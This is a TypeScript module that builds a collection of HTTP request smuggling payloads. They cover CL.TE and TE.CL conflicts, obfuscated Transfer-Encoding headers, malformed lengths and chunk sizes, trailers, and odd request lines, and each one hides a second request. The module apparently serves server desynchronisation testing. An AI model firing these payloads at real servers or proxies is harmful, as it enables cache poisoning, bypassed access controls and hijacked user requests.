/** A request that two servers may read differently. */
export interface FramingPayload {
  readonly name: string;
  /**
   * The bytes, one a character, for a request to `path` that tries to bring in another one to
   * `hidden`.
   */
  readonly bytes: (path: string, hidden: string) => string;
}

type Form = (path: string, hidden: string) => readonly string[];

const hiddenRequest = (hidden: string) => `GET ${hidden} HTTP/1.1\r\nHost: app.test\r\n\r\n`;

/** A request of header lines and a body, on a connection that ends with it. */
function request(first: string, lines: readonly string[], body = ''): string {
  return [first, 'Host: app.test', 'Connection: close', ...lines, '', body].join('\r\n');
}

/** A `POST` whose lines and body, the last of what `form` says, are to be read in two ways. */
function post(name: string, form: Form): FramingPayload {
  const bytes = (path: string, hidden: string) => {
    const parts = form(path, hidden);
    return request(`POST ${path} HTTP/1.1`, parts.slice(0, -1), parts.at(-1));
  };
  return { name, bytes };
}

/** By its chunks the body ends at once; by its length the hidden request belongs to the body. */
const endsEarly = (hidden: string) => `0\r\n\r\n${hiddenRequest(hidden)}`;

/**
 * By its chunks one chunk holds the hidden request; by its short length the request comes after the
 * body.
 */
function oneChunk(hidden: string): string {
  const inside = hiddenRequest(hidden);
  return `${inside.length.toString(16)}\r\n${inside}\r\n0\r\n\r\n`;
}

const lengthOf = (body: string) => `Content-Length: ${body.length}`;

const both: readonly FramingPayload[] = [
  post('CL.TE', (_, hidden) => [
    lengthOf(endsEarly(hidden)),
    'Transfer-Encoding: chunked',
    endsEarly(hidden),
  ]),
  post('TE before CL', (_, hidden) => [
    'Transfer-Encoding: chunked',
    lengthOf(endsEarly(hidden)),
    endsEarly(hidden),
  ]),
  post('TE.CL', (_, hidden) => [
    'Content-Length: 4',
    'Transfer-Encoding: chunked',
    oneChunk(hidden),
  ]),
  post('CL.0', (_, hidden) => ['Content-Length: 0', hiddenRequest(hidden)]),
  post('no length at all', (_, hidden) => [hiddenRequest(hidden)]),
];

const around = ['\0', '\x01', '\t', '\n', '\x0b', '\x0c', '\r', ' ', '"', ',', ';', '_', '\x7f'];
const beyond = ['\x80', '\x85', '\xa0', '\xff'];

const codings: readonly string[] = [
  ...[...around, ...beyond].flatMap((byte) => [
    `Transfer-Encoding:${byte}chunked`,
    `Transfer-Encoding: chunked${byte}`,
    `Transfer-Encoding${byte}: chunked`,
    `${byte}Transfer-Encoding: chunked`,
  ]),
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: cow',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer_Encoding: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'Transfer-Encoding\r\n: chunked',
  'Content-Encoding: chunked',
];

const obfuscated = codings.flatMap((coding) => [
  post(`${JSON.stringify(coding)} and a length`, (_, hidden) => [
    lengthOf(endsEarly(hidden)),
    coding,
    endsEarly(hidden),
  ]),
  post(`${JSON.stringify(coding)} and a short length`, (_, hidden) => [
    'Content-Length: 4',
    coding,
    oneChunk(hidden),
  ]),
]);

const lengths = [
  '+5',
  '-5',
  '0x5',
  '5.0',
  '5e0',
  '5, 5',
  '5,5',
  '5;5',
  '5 5',
  '5\t5',
  '',
  '5x',
  'x',
  '"5"',
  '5\0',
  '\x0b5',
  '5\r\nContent-Length: 6',
  '6\r\nContent-Length: 5',
  '99999999999999999999',
  '5\nX: y',
  '5\r\n 0',
].map((length) =>
  post(`the length ${JSON.stringify(length)}`, (_, hidden) => [
    `Content-Length: ${length}`,
    `hello${hiddenRequest(hidden)}`,
  ]),
);

const chunks = [
  '5;',
  '5;a',
  '5 ;a=b',
  '5;a="\r\n"',
  '5;\n',
  '5\t',
  '5 ',
  ' 5',
  '0x5',
  '+5',
  '-5',
  '5h',
  '',
  '5\0',
  '00000000000000000005',
  'fffffffffffffffff5',
  '5\r',
  '5\n',
  '5;a\rb',
  '5;a\nb',
].map((size) =>
  post(`the chunk size ${JSON.stringify(size)}`, (_, hidden) => [
    'Transfer-Encoding: chunked',
    `${size}\r\nhello\r\n0\r\n\r\n${hiddenRequest(hidden)}`,
  ]),
);

const chunkEnds = ['\n', '\r', 'XX', '', '\r\n\r\n'].map((end) =>
  post(`a chunk that ends in ${JSON.stringify(end)}`, (_, hidden) => [
    'Transfer-Encoding: chunked',
    `5\r\nhello${end}0\r\n\r\n${hiddenRequest(hidden)}`,
  ]),
);

const trailers = [
  'Content-Length: 60',
  'Transfer-Encoding: chunked',
  'Host: evil',
  'X',
  ' X: y',
].map((line) =>
  post(`the trailer ${JSON.stringify(line)}`, (_, hidden) => [
    'Transfer-Encoding: chunked',
    `5\r\nhello\r\n0\r\n${line}\r\n\r\n${hiddenRequest(hidden)}`,
  ]),
);

const heads = [
  'X Y: z',
  'X',
  ': y',
  'X\0: y',
  'X: y\0',
  'X: a\rb',
  ' X: y',
  'Host: evil.test',
  'Host : x',
  'X: y\r\n\r\n',
  'X: y\n\n',
  'Connection: content-length',
  'Connection: host, connection',
  'Connection: transfer-encoding',
  'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
  'Expect: 100-continue',
  'Expect: evil',
  'Content-Type: multipart/byteranges; boundary=x',
].map((line) =>
  post(`the line ${JSON.stringify(line)}`, (_, hidden) => [
    lengthOf(hiddenRequest(hidden)),
    line,
    hiddenRequest(hidden),
  ]),
);

const firstLines = [
  'POST PATH',
  'POST PATH HTTP/0.9',
  'POST PATH HTTP/1.0',
  'POST PATH HTTP/1.2',
  'POST PATH HTTP/2.0',
  'POST PATH http/1.1',
  'POST PATH HTTP/1.1 ',
  'POST PATH  HTTP/1.1',
  'POST\tPATH\tHTTP/1.1',
  ' POST PATH HTTP/1.1',
  'POST PATH HTTP/1.1\rX: y',
  'post PATH HTTP/1.1',
  'POST PATH HTTP/1.1\nX: y',
  'POST http://evil.test/ HTTP/1.1',
  'CONNECT PATH HTTP/1.1',
  'GET PATH HTTP/1.1',
  'HEAD PATH HTTP/1.1',
  'DELETE PATH HTTP/1.1',
  'OPTIONS PATH HTTP/1.1',
  'TRACE PATH HTTP/1.1',
  'PRI * HTTP/2.0',
  'POST PATH HTTP/1.1\r\n X: y',
].flatMap((first): FramingPayload[] => [
  {
    name: `${JSON.stringify(first)} with a length`,
    bytes: (path, hidden) => {
      const body = hiddenRequest(hidden);
      return request(first.replace('PATH', path), [lengthOf(body)], body);
    },
  },
  {
    name: `${JSON.stringify(first)} with chunks`,
    bytes: (path, hidden) =>
      request(first.replace('PATH', path), ['Transfer-Encoding: chunked'], oneChunk(hidden)),
  },
]);

/** The families of standards on request smuggling (RFC 9112 §11.2), a few hundred requests. */
export const framingPayloads: readonly FramingPayload[] = [
  ...both,
  ...obfuscated,
  ...lengths,
  ...chunks,
  ...chunkEnds,
  ...trailers,
  ...heads,
  ...firstLines,
];
